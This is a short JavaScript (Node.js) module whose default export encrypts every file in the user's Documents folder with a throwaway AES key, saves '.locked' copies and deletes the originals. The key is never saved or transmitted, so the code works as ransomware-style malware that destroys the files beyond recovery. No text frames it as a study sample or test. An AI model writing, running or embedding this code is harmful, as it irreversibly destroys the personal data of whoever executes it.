import { createCipheriv, randomBytes } from "node:crypto";
import { readdirSync, readFileSync, unlinkSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
const key = randomBytes(32);
export default () => {
  const dir = homedir() + "/Documents/";
  for (const f of readdirSync(dir)) {
    const c = createCipheriv("aes-256-cbc", key, key.subarray(0, 16));
    writeFileSync(dir + f + ".locked", Buffer.concat([c.update(readFileSync(dir + f)), c.final()]));
    unlinkSync(dir + f);
  }
};
